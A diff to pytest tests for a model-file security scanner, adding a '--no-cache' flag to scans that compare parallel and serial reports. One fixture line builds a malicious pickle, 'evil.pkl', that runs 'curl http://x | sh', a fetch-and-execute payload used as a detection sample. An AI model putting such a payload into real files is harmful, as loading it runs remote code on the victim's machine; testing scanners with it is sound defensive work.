@@ -40,8 +40,8 @@ def mixed_tree(tmp_path: Path) -> Path:
 
 @pytest.mark.parametrize("output_format", ["json", "sarif"])
 def test_parallel_report_is_the_serial_report(mixed_tree: Path, output_format: str) -> None:
-    serial = modelseal("scan", "--jobs", "1", "--format", output_format, mixed_tree)
-    parallel = modelseal("scan", "--jobs", "2", "--format", output_format, mixed_tree)
+    serial = modelseal("scan", "--no-cache", "--jobs", "1", "--format", output_format, mixed_tree)
+    parallel = modelseal("scan", "--no-cache", "--jobs", "2", "--format", output_format, mixed_tree)
     assert serial.returncode == parallel.returncode == 1
     assert parallel.stdout == serial.stdout
     assert len(json.loads(serial.stdout)["runs" if output_format == "sarif" else "files"]) > 0
@@ -51,8 +51,8 @@ def test_a_stalled_worker_is_stopped_and_only_its_file_is_incomplete(tmp_path: P
     shutil.copytree(FIXTURES / "peer-corpora" / "picklescan-data", tmp_path / "picklescan")
     (tmp_path / "evil.pkl").write_bytes(system("curl http://x | sh"))
     (tmp_path / "slow.pkl").write_bytes(_slow_pickle())
-    serial = json.loads(modelseal("scan", "--jobs", "1", "--format", "json", tmp_path).stdout)
-    result = modelseal("scan", "--jobs", "2", "--file-timeout", "1", "--format", "json", tmp_path)
+    serial = json.loads(modelseal("scan", "--no-cache", "--jobs", "1", "--format", "json", tmp_path).stdout)
+    result = modelseal("scan", "--no-cache", "--jobs", "2", "--file-timeout", "1", "--format", "json", tmp_path)
     no_traceback(result)
     parallel = json.loads(result.stdout)
     by_path = {entry["path"]: entry for entry in parallel["files"]}
